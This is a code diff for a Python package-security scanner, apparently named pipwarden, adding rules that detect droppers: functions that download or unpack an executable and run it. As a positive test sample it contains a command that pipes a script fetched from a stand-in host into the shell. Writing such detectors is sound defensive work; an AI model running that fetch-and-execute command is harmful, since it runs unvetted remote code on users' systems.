@@ -4,10 +4,57 @@ from __future__ import annotations
 
 from pipwarden.findings import Severity
 from pipwarden.rules import Where
+from pipwarden.scan.facts import Event, Fact, Hit, ScopeFacts
 from pipwarden.scan.rules._base import CRITICAL, HIGH, MEDIUM, negative, positive, rule
 from pipwarden.scan.rules._samples import URL
 
 _FIX = "Do not install; report the project."
+
+
+def downloaded_then_run(s: ScopeFacts) -> Hit | None:
+    """One function downloads a file and runs a process or code."""
+    ev = s.events
+    if Event.DOWNLOAD_FILE not in ev or not (Event.PROCESS in ev or Event.EXEC in ev):
+        return None
+    # Tools do fetch and run helpers on request (torch fetches flamegraph.pl); doing so on
+    # import, install or start is what droppers do.
+    on_load = s.runs_on_load or s.setup or s.startup
+    # A downloaded program (an .exe, code from a paste site) or a hidden start is a
+    # dropper wherever it runs; fetching a helper tool and running it is not.
+    strong = (
+        Event.DOWNLOAD_PROGRAM in ev
+        or Event.HIDDEN_START in ev
+        # The downloaded file started itself, its digest unchecked: installers of release
+        # binaries check a hash, droppers do not.
+        or (Event.RUN_DOWNLOADED in ev and Event.HASH_CHECK not in ev)
+    )
+    return Hit(
+        ev[Event.DOWNLOAD_FILE],
+        "downloads a file and runs a process in the same function"
+        + (
+            " (a downloaded program, the downloaded file itself, or started hidden)"
+            if strong and not on_load
+            else ""
+        ),
+        drop_and_run_severity(on_load, strong),
+    )
+
+
+def unpacked_then_run(s: ScopeFacts) -> Hit | None:
+    """One function writes out an executable decoded from the package and runs something:
+    no package does that."""
+    ev = s.events
+    if (Event.DROP_NATIVE in ev or (Event.WRITE_DECODED in ev and Event.CHMOD in ev)) and (
+        Event.PROCESS in ev or Event.EXEC in ev
+    ):
+        return Hit(
+            ev.get(Event.DROP_NATIVE) or ev[Event.WRITE_DECODED],
+            "writes an executable decoded from the package and runs it",
+            drop_and_run_severity(s.runs_on_load or s.setup, strong=True),
+        )
+    return None
+
+
 RULES = [
     rule(
         "download-execute.remote-code",
@@ -22,6 +69,7 @@ RULES = [
                 f"import json\nfrom urllib.request import urlopen\ndata = json.loads(urlopen({URL!r}).read())\n"
             ),
         ),
+        when=(Fact.NET_DATA_EXECUTED,),
     ),
     rule(
         "download-execute.remote-command",
@@ -34,6 +82,7 @@ RULES = [
             positive("import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n"),
             negative("import os\nos.system('git status')\n"),
         ),
+        when=(Fact.REMOTE_COMMAND, Fact.PIPE_TO_SHELL_TEXT),
     ),
     rule(
         "download-execute.drop-and-run",
@@ -62,6 +111,7 @@ RULES = [
                 f"import urllib.request\ndef go():\n    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n"
             ),
         ),
+        per_scope=(downloaded_then_run, unpacked_then_run),
     ),
     rule(
         "download-execute.runtime-install",
@@ -83,6 +133,8 @@ RULES = [
                 "pkg/__init__.py",
             ),
         ),
+        when=(Fact.RUNTIME_INSTALL,),
+        severity_of=lambda o: runtime_install_severity(o.remote, o.declared),
     ),
     rule(
         "download-execute.direct-url-dependency",
@@ -104,6 +156,7 @@ RULES = [
                 "sdist",
             ),
         ),
+        when=(Fact.URL_DEPENDENCY,),
     ),
 ]
 
